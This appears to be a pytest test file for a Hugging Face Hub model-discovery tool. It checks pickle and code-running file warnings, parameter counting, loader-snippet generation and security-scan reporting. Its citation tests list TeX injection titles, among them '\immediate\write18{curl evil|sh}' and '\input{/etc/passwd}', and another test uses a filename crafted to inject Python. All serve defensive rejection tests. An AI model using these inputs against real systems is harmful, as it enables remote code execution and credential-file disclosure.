"""Weights as they are: which files run code, which parameters are counted, what is not written."""

from __future__ import annotations

import io
import json
import os
import re
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
import yaml

from mlactions.__main__ import run
from mlactions.codex_home.request import OWN_EVENTS
from mlactions.discover.citation import cite
from mlactions.discover.constraints import check, needs_care, warnings_of
from mlactions.discover.hub import HuggingFace
from mlactions.discover.model import Constraints, Conventions, Entry
from mlactions.discover.reading import read_entry
from mlactions.discover.snippets import snippets
from mlactions.runner import Runner
from tests.fakes.hub import FakeHub, Repository, dataset, model, sha
from tests.github_html import page

ROOT = Path(__file__).resolve().parents[1]
SHA = "0123456789abcdef0123456789abcdef01234567"


def entry_of(*paths: str, **more: Any) -> Entry:
    """Read a model with these files, as the Hub describes it."""
    tags = more.pop("tags", ())
    raw = {
        "id": "acme/vit",
        "sha": SHA,
        "gated": False,
        "tags": ["license:mit", *tags],
        "card": {"license": "mit"},
        "siblings": [{"path": path, "size": 10} for path in paths],
        **more,
    }
    return read_entry("model", raw)


def codes(entry: Entry, **wanted: Any) -> list[str]:
    return [reason.code for reason in check(entry, Constraints(**wanted))]


def headers(total: int = 12, **counts: int) -> dict[str, Any]:
    return {"total": sum(counts.values()) or total, "parameters": counts}


def search(out: Path, *repositories: Repository, arguments: tuple[str, ...] = ()) -> Any:
    """Return the result of a search on a Hub that holds these."""
    with FakeHub(*repositories) as hub:
        variables = {"PATH": os.environ["PATH"], "HF_ENDPOINT": hub.url}
        runner = Runner(variables, io.StringIO())
        command = ["discover", "--task", "image classification", *arguments, "--out", str(out)]
        code = run(command, runner)
    assert code in (0, 1)
    return json.loads((out / "result.json").read_text())


@pytest.mark.parametrize(
    "path",
    [
        *("model.keras", "w.h5", "W.H5", "saved_model.pb", "model.nemo", "weights.pdparams"),
        *("x.npy", "model.pkl.gz", "model.pt2", "a.PKL", "model.tar.gz", "flax_model.msgpack"),
        *("Model.SAFETENSORS", "tokenizer.pkl", "model.tflite", "model.llamafile"),
    ],
)
def test_only_known_formats_are_data(path: str) -> None:
    entry = entry_of("config.json", path)
    assert needs_care(entry)
    assert any(f"`{path}`" in text for text in warnings_of(entry))
    assert not entry.safetensors


def test_a_name_cannot_leave_its_quotes() -> None:
    (said, *_) = warnings_of(entry_of("` <b>\n@x `.pt"))
    assert said.endswith(": `' <b> @x '.pt`")


@pytest.mark.parametrize("path", ["model.safetensors", "model.onnx", "model-q4.gguf"])
def test_data_needs_no_care(path: str) -> None:
    entry = entry_of("config.json", path, "tokenizer.bin", "w.h5", "optimizer.pt")
    assert not needs_care(entry)
    assert warnings_of(entry) == ()


def test_data_elsewhere_does_not_vouch_for_pickles() -> None:
    entry = entry_of("vae/model.safetensors", "unet/model.bin", library_name="diffusers")
    assert needs_care(entry)
    assert "`unet/model.bin`" in warnings_of(entry)[0]


def test_the_report_says_what_happens_when_each_file_is_loaded(tmp_path: Path) -> None:
    files = {"a.safetensors": 9, "b.keras": 8, "c.npy": 7, "d.pt2": 6, "e.bin": 5}
    result = search(tmp_path, model("acme/mixed", files=files))
    found = (tmp_path / "report.md").read_text()
    said = dict(re.findall(r"\| `([a-e]\.\w+)` \|[^|]*\| ([^|]*?) \|", found))
    assert said == {
        "a.safetensors": "data only",
        "b.keras": "⚠️ can run code",
        "c.npy": "⚠️ unknown",
        "d.pt2": "⚠️ pickle: can run code",
        "e.bin": "⚠️ pickle: can run code",
    }
    assert result["status"] == "pass"


def test_a_search_that_finds_no_data_warns(tmp_path: Path) -> None:
    files = {"model.keras": 8, "w.h5": 9}
    result = search(tmp_path, model("acme/k", library="keras", files=files, parameters=None))
    assert result["status"] == "warn"
    assert "⚠️ can run code" in (tmp_path / "report.md").read_text()


@pytest.mark.parametrize(
    ("more", "expected"),
    [
        ({"safetensors": headers(F32=12)}, []),
        ({"safetensors": headers(F32=1000, I64=512)}, []),
        ({"safetensors": headers(I32=10, F16=2)}, ["parameters-unknown"]),
        ({"safetensors": headers(U8=10, F16=10)}, ["parameters-unknown"]),
        ({"safetensors": headers(I8=1, F16=900), "tags": ("gptq",)}, ["parameters-unknown"]),
        ({"safetensors": headers(12), "tags": ("AWQ",)}, ["parameters-unknown"]),
        (
            {
                "safetensors": headers(U8=1, BF16=900),
                "config": {"quantization_config": {"quant_method": "bitsandbytes"}},
            },
            ["parameters-unknown"],
        ),
        (
            {
                "safetensors": headers(F8_E4M3=900, BF16=9),
                "config": {"quantization_config": {"quant_method": "fp8"}},
            },
            [],
        ),
        ({"safetensors": headers(F32=12), "library_name": "peft"}, ["parameters-unknown"]),
        (
            {"safetensors": headers(F32=12), "tags": ("base_model:adapter:meta/L-70B",)},
            ["parameters-unknown"],
        ),
        ({"safetensors": headers(F32=12), "adapter": True}, ["parameters-unknown"]),
    ],
)
def test_packed_weights_and_adapters_prove_no_size(
    more: Mapping[str, Any], expected: list[str]
) -> None:
    given = dict(more)
    paths = ["model.safetensors", *(["adapter_config.json"] if given.pop("adapter", 0) else [])]
    entry = entry_of(*paths, **given)
    assert codes(entry, max_parameters=10**6) == expected
    assert (entry.parameters is None) is bool(expected)


def test_the_reason_names_what_is_not_counted(tmp_path: Path) -> None:
    packed = {"parameters": {"I32": 10_000_000, "F16": 2_000_000}, "total": 12_000_000}
    lora = model("acme/lora", library="peft", parameters=10**6)
    lora.about["tags"].append("base_model:adapter:meta-llama/Llama-3-70B")
    found = search(
        tmp_path,
        model("acme/gptq", safetensors=packed),
        lora,
        arguments=("--max-parameters", "20M"),
    )
    assert found["candidates"] == []
    said = {item["id"]: item["reasons"][0]["text"] for item in found["dropped"]}
    assert "packed" in said["acme/gptq"]
    assert "adapter" in said["acme/lora"]
    assert "`meta-llama/Llama-3-70B`" in said["acme/lora"]


@pytest.mark.parametrize(
    ("paths", "more", "expected"),
    [
        (("model.safetensors", "pytorch_model.bin"), {}, []),
        (("model.safetensors", "checkpoint-5/optimizer.pt"), {}, []),
        (("extra/vae.safetensors", "pytorch_model.bin"), {}, ["safetensors-unproven"]),
        (("model.safetensors",), {"safetensors": None}, ["safetensors-unproven"]),
        (("model.safetensors",), {"safetensors": {"total": 0}}, ["safetensors-unproven"]),
        (
            ("model.safetensors", "2_Dense/pytorch_model.bin"),
            {"library_name": "sentence-transformers"},
            ["safetensors-unproven"],
        ),
        (
            ("model.safetensors", "original/consolidated.00.pth"),
            {"library_name": "transformers"},
            [],
        ),
        (
            ("extra/vae.safetensors", "pytorch_model.bin"),
            {"library_name": "transformers"},
            ["no-safetensors"],
        ),
        (("vae/model.safetensors",), {"library_name": "transformers"}, ["no-safetensors"]),
        (("vae/model.safetensors",), {"library_name": "diffusers"}, []),
        (("model.bin",), {}, ["no-safetensors"]),
    ],
)
def test_safetensors_are_proven(
    paths: tuple[str, ...], more: Mapping[str, Any], expected: list[str]
) -> None:
    given = {"safetensors": headers(F32=12), **more}
    assert codes(entry_of(*paths, **given), safetensors_only=True) == expected


def test_weights_that_transformers_does_not_find_are_not_loaded_by_it() -> None:
    (python,) = snippets(entry_of("vae/model.safetensors", library_name="transformers"), USES)
    assert "from_pretrained" not in python.text
    assert "hf_hub_download" in python.text


@pytest.mark.parametrize(
    ("paths", "known"),
    [
        (("model.Q4_K_M.gguf", "model.Q8_0.gguf", "model-f16.gguf"), True),
        (("model-00001-of-00002.gguf", "model-00002-of-00002.gguf"), True),
        (("Model-IQ3_XS.gguf", "model-UD-Q6_K-00001-of-00003.gguf"), True),
        (("small.gguf", "big-70B.gguf"), False),
    ],
)
def test_parameters_of_gguf_are_those_of_one_model(paths: tuple[str, ...], known: bool) -> None:
    entry = entry_of(*paths, gguf={"total": 100})
    assert entry.parameters == (100 if known else None)
    expected = [] if known else ["parameters-unknown"]
    assert codes(entry, max_parameters=1000) == expected


@pytest.mark.parametrize(
    ("paths", "sizes", "total", "known"),
    [
        (("m-Q4_K_M.gguf", "m-F32.gguf"), (4, 28), 7, True),
        (("m-Q4_K_M.gguf", "m-F32.gguf"), (4, 280), 7, False),
        (("m.gguf", "model.safetensors"), (4, 28), 7, False),
    ],
)
def test_a_count_of_gguf_has_to_fit_its_files(
    paths: tuple[str, ...], sizes: tuple[int, ...], total: int, known: bool
) -> None:
    listed = [{"path": path, "size": size * 10**9} for path, size in zip(paths, sizes, strict=True)]
    entry = entry_of(siblings=listed, gguf={"total": total * 10**9})
    assert (entry.parameters is not None) is known


@pytest.mark.parametrize("other", ["big.onnx", "pytorch_model.bin"])
def test_what_was_counted_is_what_is_fetched(other: str) -> None:
    listed = [{"path": "m.Q8_0.gguf", "size": 5}, {"path": other, "size": 9**12}]
    given = {"library_name": "transformers", "gguf": {"total": 100}}
    (python,) = snippets(entry_of(siblings=listed, **given), USES)
    assert 'hf_hub_download(NAME, "m.Q8_0.gguf"' in python.text


@pytest.mark.parametrize(
    ("paths", "library", "expected"),
    [
        (("model.safetensors",), "transformers", "use_safetensors=True"),
        (("model-00001-of-00002.safetensors",), "transformers", "use_safetensors=True"),
        (("pytorch_model.bin", "vae/model.safetensors"), "transformers", "weights_only=True"),
        (("pytorch_model.bin", "x.safetensors"), "transformers", "weights_only=True"),
        (("consolidated.safetensors",), "transformers", "load_file(path)"),
        (("adapter_model.safetensors",), "transformers", "load_file(path)"),
        (("onnx/model.onnx", "optimizer.pt"), "transformers", 'NAME, "onnx/model.onnx"'),
        (("m.gguf",), "transformers", 'NAME, "m.gguf"'),
        (("flux.safetensors",), "diffusers", "load_file(path)"),
        (("unet/diffusion_pytorch_model.safetensors",), "diffusers", "use_safetensors=True"),
    ],
)
def test_a_loader_is_called_only_for_what_it_finds(
    paths: tuple[str, ...], library: str, expected: str
) -> None:
    python, *config = snippets(entry_of(*paths, library_name=library), USES)
    assert expected in python.text
    called = library == "transformers" and expected.endswith("=True")
    argument = expected.replace("=True", ": true")
    assert [argument in snippet.text for snippet in config] == [True] * called


def test_the_top_folder_is_not_crowded_out() -> None:
    many = [{"path": f"checkpoint-{n}/model.safetensors", "size": 9_000} for n in range(20)]
    listed = [*many, {"path": "model.safetensors", "size": 10}]
    (python, _) = snippets(entry_of(siblings=listed, library_name="transformers"), USES)
    assert "from_pretrained" in python.text


def test_a_model_in_parts_is_fetched_whole() -> None:
    (python,) = snippets(entry_of("m-00000-of-00009.gguf", "m-00001-of-00009.gguf"), Conventions())
    assert 'allow_patterns=["m-*-of-00009.gguf", "*.json"]' in python.text


def test_pickles_of_a_data_set_are_flagged() -> None:
    raw = {"id": "acme/digits", "sha": SHA, "gated": False, "card": {"license": "mit"}}
    raw |= {"tags": ["license:mit"]}
    listed = [{"path": name, "size": 10} for name in ("train.pkl", "x.joblib", "raw.bin")]
    entry = read_entry("dataset", {**raw, "siblings": listed})
    assert needs_care(entry)
    assert any("`train.pkl`" in text and "raw.bin" not in text for text in warnings_of(entry))
    plain = read_entry("dataset", {**raw, "siblings": [{"path": "a.parquet", "size": 1}]})
    assert not needs_care(plain)


@pytest.mark.parametrize(
    ("path", "loader"),
    [
        ("data/train-0.parquet", "load_dataset("),
        ("a.jsonl.gz", "load_dataset("),
        ("img/1.PNG", "load_dataset("),
        ("train.pkl", "snapshot_download("),
        ("data.npy", "snapshot_download("),
    ],
)
def test_load_dataset_is_called_only_for_what_it_reads(path: str, loader: str) -> None:
    raw = {"id": "acme/d", "sha": SHA, "siblings": [{"path": "README.md"}, {"path": path}]}
    python, *config = snippets(read_entry("dataset", raw), USES)
    assert loader in python.text
    assert len(config) == (loader == "load_dataset(")


def test_a_data_set_s_pickles_are_seen_at_a_glance(tmp_path: Path) -> None:
    search(
        tmp_path,
        dataset("acme/pickled", files={"train.pkl": 9, "y.joblib": 9}, downloads=9_000),
        dataset("acme/packed", files={"data.npy": 9, "y.tar": 9, "x.csv": 1}, downloads=100),
        arguments=("--kind", "dataset"),
    )
    found = (tmp_path / "report.md").read_text()
    rows = dict(re.findall(r"\| `acme/(\w+)` \|.*?\| (\d files?[^|]*?) \|", found))
    assert rows == {"pickled": "2 files, ⚠️ pickle", "packed": "3 files"}
    assert "not looked at: `data.npy` and `y.tar`" in found
    assert "most downloaded that runs no code of its own is acme/packed" in found
    assert re.findall("<details open><summary><code>(.*?)</code>", found) == ["acme/packed"]


def test_what_needs_care_is_seen_at_a_glance(tmp_path: Path) -> None:
    issues = {"scansDone": True, "filesWithIssues": [{"path": "x", "level": "suspicious"}]}
    result = search(
        tmp_path,
        model("acme/sus", securityRepoStatus=issues, downloads=9_000),
        model("acme/own", config={"auto_map": {"AutoModel": "x.Y"}}, downloads=900),
        model("acme/safe", securityRepoStatus={"scansDone": False}, downloads=90),
    )
    found = (tmp_path / "report.md").read_text()
    rows = dict(re.findall(r"\| `acme/(\w+)` \|.*?\| (safetensors[^|]*?) \|", found))
    assert rows == {
        "sus": "safetensors, ⚠️ with care",
        "own": "safetensors, ⚠️ own code",
        "safe": "safetensors",
    }
    assert [item["care"] for item in result["candidates"]] == [True, True, False]
    assert re.findall("<details open><summary><code>(.*?)</code>", found) == ["acme/safe"]
    assert result["candidates"][2]["warnings"] == ["the Hub has not scanned all of its files yet"]
    assert "\u2060" not in found.partition("### Use one")[0]


def test_the_scanner_is_asked_about_a_data_set_s_files(tmp_path: Path) -> None:
    files = {"train.pkl": 9, "x.csv": 1}
    scans = {"bad": "unsafe", "odd": "suspicious", "new": "queued", "good": "safe"}
    held = [dataset(f"acme/{n}", files=files, scans={"train.pkl": s}) for n, s in scans.items()]
    result = search(tmp_path, *held, dataset("acme/plain"), arguments=("--kind", "dataset"))
    (dropped,) = result["dropped"]
    assert (dropped["id"], dropped["reasons"][0]["code"]) == ("acme/bad", "unsafe-file")
    said = {item["id"]: " ".join(item["warnings"]) for item in result["candidates"]}
    assert "suspicious: `train.pkl`" in said["acme/odd"]
    assert "not scanned" in said["acme/new"]
    assert "scanne" not in said["acme/good"] + said["acme/plain"]


def test_a_scan_that_cannot_be_read_is_none(tmp_path: Path) -> None:
    with FakeHub(dataset("acme/d", files={"train.pkl": 9})) as hub:
        hub.fail(f"/api/datasets/acme/d/paths-info/{sha('acme/d')}", 404)
        entry = HuggingFace(hub.url).look_up("dataset", "acme/d")
    assert entry.unscanned
    assert not codes(entry)


def test_what_the_scanner_suspects_is_said() -> None:
    issues = [{"path": "model.safetensors", "level": "suspicious"}]
    entry = entry_of("model.safetensors", security={"filesWithIssues": issues})
    assert not codes(entry)
    assert needs_care(entry)
    assert any("suspicious: `model.safetensors`" in text for text in warnings_of(entry))


def test_warnings_are_shown_as_github_shows_them(tmp_path: Path) -> None:
    search(tmp_path, model("acme/own", files={"pytorch_model.bin": 9}))
    text = page((tmp_path / "report.md").read_text()).text
    assert "Mind: " in text
    assert "**" not in text


def test_a_pickle_among_many_files_is_seen() -> None:
    many = [f"a/{n}.safetensors" for n in range(30)] + [f"a/{n}.bin" for n in range(30)]
    entry = entry_of(*many, "z/model.bin", safetensors=headers(F32=12))
    assert codes(entry, safetensors_only=True) == ["safetensors-unproven"]


@pytest.mark.parametrize(
    "title",
    [
        r"\immediate\write18{curl evil|sh}",
        r"\input{/etc/passwd}",
        r"\\\input{/etc/passwd}",
        r"^^5cinput{/etc/passwd}",
        r"\catcode`\@=11",
        r"\href{run:./x}{y}",
        r"\url{run:./x}",
        r"\csname input\endcsname x",
        r"\def\x{\x}\x",
        r"\} # {input{/etc/passwd}",
        "\\",
    ],
)
def test_a_citation_that_commands_tex_is_not_taken(title: str) -> None:
    found = cite(entry_of(), f"```bibtex\n@misc{{a,\n title={{{title}}},\n}}\n```\n")
    assert found.source == "generated"
    assert f"title={{{title}}}" not in found.text


@pytest.mark.parametrize(
    "title",
    [
        r"Schr{\"o}dinger \& {\'e} \c{c} \ss{} 100\% a\_b \v{s}",
        r"\emph{x} \textbf{y} $\alpha$-\LaTeX{} \url{https://arxiv.org/abs/1}",
    ],
)
def test_accents_and_emphasis_of_a_citation_stay(title: str) -> None:
    found = cite(entry_of(), f"@misc{{a,\n title={{{title}}}\n}}")
    assert (found.source, title in found.text) == ("card", True)


ODD = 'x");__import__(os)#.safetensors'


@pytest.mark.parametrize(
    "paths",
    [(ODD,), (ODD, "pytorch_model.bin"), (ODD.replace("#", "$"), ODD), ("a b.bin",)],
)
def test_no_code_is_written_for_files_whose_names_could_be_code(paths: tuple[str, ...]) -> None:
    entry = entry_of(*paths, "config.json")
    assert snippets(entry, Conventions(hydra=True)) == ()
    assert any("no code is written" in text for text in warnings_of(entry))


@pytest.mark.parametrize(
    ("paths", "expected"),
    [
        (("model.bin", "a b.bin"), "torch.load(path, "),
        (("model.safetensors", ODD), 'allow_patterns=["*.safetensors", "*.json"]'),
        (("model.pdparams",), 'hf_hub_download(NAME, "model.pdparams"'),
        (("w.h5",), 'hf_hub_download(NAME, "w.h5"'),
    ],
)
def test_names_of_the_strict_form_get_into_code(paths: tuple[str, ...], expected: str) -> None:
    (python,) = snippets(entry_of(*paths), Conventions())
    assert expected in python.text
    assert not any(path in python.text for path in ("a b.bin", ODD))
    if "torch.load" not in expected:
        assert "torch.load" not in python.text


def test_timm_is_called_only_for_the_file_it_prefers() -> None:
    given = {"library_name": "timm"}
    (python,) = snippets(entry_of("extra/vae.safetensors", "pytorch_model.bin", **given), USES)
    assert "create_model" not in python.text
    python, config = snippets(entry_of("model.safetensors", **given), USES)
    assert "create_model" in python.text
    assert "timm.create_model" in config.text


USES = Conventions(hydra=True)


@pytest.mark.parametrize("word", ["analyze", "discover"])
def test_tools_that_hold_a_token_start_for_the_repository_s_own_events_alone(word: str) -> None:
    document = yaml.safe_load((ROOT / f".github/workflows/{word}.yml").read_text())
    job = document["jobs"][word]
    assert job["outputs"]["own"] == "${{ steps.key.outputs.own }}"
    (step,) = [step for step in job["steps"] if step.get("id") == "key"]
    assert "own=$OWN" in step["run"]
    listed = re.search(r"fromJSON\('(.*?)'\), github\.event_name", step["env"]["OWN"])
    assert listed is not None
    assert set(json.loads(listed[1])) == OWN_EVENTS
    (ask,) = [step for step in document["jobs"]["ask"]["steps"] if step.get("id") == "ask"]
    server = {"analyze": "mlflow", "discover": "huggingface"}[word]
    own = f"needs.{word}.outputs.own == 'true'"
    asked = "" if word == "analyze" else "inputs.hub-endpoint == '' && "
    assert ask["with"]["mcp"] == f"${{{{ {own} && {asked}'{server}' || '' }}}}"
